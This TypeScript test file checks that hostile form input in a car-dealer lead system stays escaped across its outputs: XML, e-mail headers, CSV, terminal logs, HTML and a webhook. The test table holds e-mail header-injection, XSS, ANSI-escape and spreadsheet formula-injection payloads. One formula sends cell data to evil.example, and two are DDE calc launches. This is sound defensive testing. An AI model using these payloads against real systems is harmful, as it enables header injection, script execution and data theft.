/**
 * Form text cannot break out of its place, wherever a lead goes: a table of hostile values in
 * the customer's name, last name, e-mail, phone, postcode and message, each through the ADF
 * document (valid against the DTD, its markup escaped), the e-mail's header values (one line:
 * no header of its own), the spreadsheet (no formula), the terminal log (no escape sequence)
 * and the delivery log's HTML (escaped).
 */
/* eslint-disable no-control-regex -- the tests look for control characters */
import { describe, expect, it } from 'vitest';
import { adfDocument } from '../../../../src/domain/leads/adf';
import { leadView } from '../../../../src/domain/leads/lead-view';
import { headerText, leadSubject, leadMailText } from '../../../../src/domain/leads/lead-mail';
import { spreadsheetCsv, spreadsheetText } from '../../../../src/domain/leads/spreadsheet';
import { logCsv, logLeads } from '../../../../src/domain/leads/delivery-log';
import { leadWebhookBody } from '../../../../src/domain/leads/lead-webhook';
import { oneLine } from '../../../../src/domain/leads/lead-text';
import { parseTable } from '../../../../src/domain/feeds/text';
import { logPage } from '../../../../src/server/lead-log/page';
import { leadLogText } from '../../../../scripts/lib/lead-log-text';
import { isPlainAddress } from '../../../../src/server/lead-settings';
import { leadRecord } from '../../../support/lead-records';
import { adfProblems } from '../../../../scripts/lib/xmllint';

const HOSTILE: [string, string][] = [
  ['CR LF and a header', 'Jo\r\nBcc: evil@example.com'],
  ['LF and a header', 'Jo\nSubject: free car'],
  ['CR alone', 'Jo\rX-Evil: 1'],
  ['Unicode line separator', 'Jo\u2028Bcc: evil@example.com'],
  ['HTML and script', '<script>alert(1)</script><img src=x onerror=alert(2)>'],
  ['XML entity, CDATA end and comment', '&amp; ]]> <!-- --> <![CDATA[x]]>'],
  ['quotes', `"O'Brien" <jo@example.com>`],
  ['NUL, bell and an ANSI escape', 'Jo\u0000\u0007\u001b[2J\u001b]0;pwned\u0007'],
  ['C1 controls and DEL', 'Jo\u0085\u009b31m\u007f'],
  ['bidi override', 'Jo\u202egnp.exe\u2066'],
  ['lone surrogates', 'Jo\uD800x\uDC00'],
  ['non-characters', 'Jo\uFFFE\uFFFF'],
  ['formula =', '=HYPERLINK("http://evil.example/?"&A1,"Click")'],
  ['formula +', '+61 411 222 333'],
  ['formula -', "-2+3+cmd|' /C calc'!A0"],
  ['formula @', "@SUM(1+1)*cmd|' /C calc'!A0"],
  ['tab first', '\t=1+1'],
  ['emoji and accents', 'Zoë 🚗 Ngā'],
  ['very long', 'x'.repeat(20_000)],
];

/** What a value may not put into any one-line place: line breaks or any other control character. */
const UNSAFE_LINE = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

describe.each(HOSTILE)('hostile form text: %s', (_name, value) => {
  const lead = leadRecord({
    userData: {
      name: value,
      last_name: value,
      email: value,
      phone: value,
      postcode: value,
      message: `${value}\nsecond line`,
      Rego: value,
    },
  });
  const view = leadView(lead);

  it('the ADF document stays valid, with the value escaped as text', () => {
    const xml = adfDocument(view);
    expect(adfProblems(xml)).toBe('');
    expect(xml).not.toContain('<script>');
    expect(xml).not.toContain('<img');
    expect(xml).not.toMatch(/<!\[CDATA\[|<!--/);
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/);
  });

  it('e-mail header values are one line', () => {
    for (const header of [leadSubject(view), headerText(`${view.customer.firstName} leads`)]) {
      expect(header).not.toMatch(UNSAFE_LINE);
      expect(header.length).toBeLessThanOrEqual(201);
    }
    // the customer's address is used as Reply-To only when it is a plain address
    expect(isPlainAddress(view.customer.email)).toBe(false);
    // the body's one-line fields stay one line each
    const text = leadMailText(view, 'lead.xml');
    for (const line of text.split('\n')) expect(line).not.toMatch(UNSAFE_LINE);
  });

  it('a spreadsheet reads every cell as text', () => {
    const csv = logCsv(logLeads([{ ...lead, status: 'stored' }], new Map(), new Map()), 'UTC');
    const table = parseTable(csv.replace(/^\uFEFF/, '').replace(/\r\n/g, '\n'), 'csv');
    expect(table.rows).toHaveLength(1);
    for (const cell of Object.values(table.rows[0])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(table.rows[0].Name.startsWith("'") || !/^[=+\-@\t]/.test(oneLine(value))).toBe(true);
  });

  it('the terminal log escapes every control character', () => {
    const text = leadLogText(logLeads([{ ...lead, status: 'stored' }], new Map(), new Map()), 0);
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
  });

  it('the delivery log page escapes it', async () => {
    const html = await logPage({
      siteName: value,
      market: 'AU',
      timeZone: 'Australia/Perth',
      now: lead.createdAt,
      leads: logLeads([{ ...lead, status: 'stored' }], new Map(), new Map()),
      filter: 'all',
      olderFrom: null,
      configured: [],
      problems: [],
      overdueMinutes: 15,
      alarmOn: false,
      retentionDays: 365,
    }).text();
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img');
    expect(html).not.toContain('\u001b');
  });

  it('the webhook carries it as JSON text, one-line fields without line breaks', () => {
    const body = leadWebhookBody(view);
    expect(JSON.parse(JSON.stringify(body))).toEqual(body);
    for (const v of Object.values(body.customer)) expect(v).not.toMatch(UNSAFE_LINE);
  });
});

describe('spreadsheet neutralisation', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+61411222333', "'+61411222333"],
    ['-5', "'-5"],
    ['@cmd', "'@cmd"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['Jo', 'Jo'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j → %j', (value, cell) => {
    expect(spreadsheetText(value)).toBe(cell);
  });

  it('quotes as RFC 4180 says, CRLF lines, a byte-order mark for UTF-8', () => {
    expect(spreadsheetCsv(['a', 'b'], [['x,y', 'say "hi"\nthere']])).toBe(
      '\uFEFFa,b\r\n"x,y","say ""hi""\nthere"\r\n',
    );
  });
});
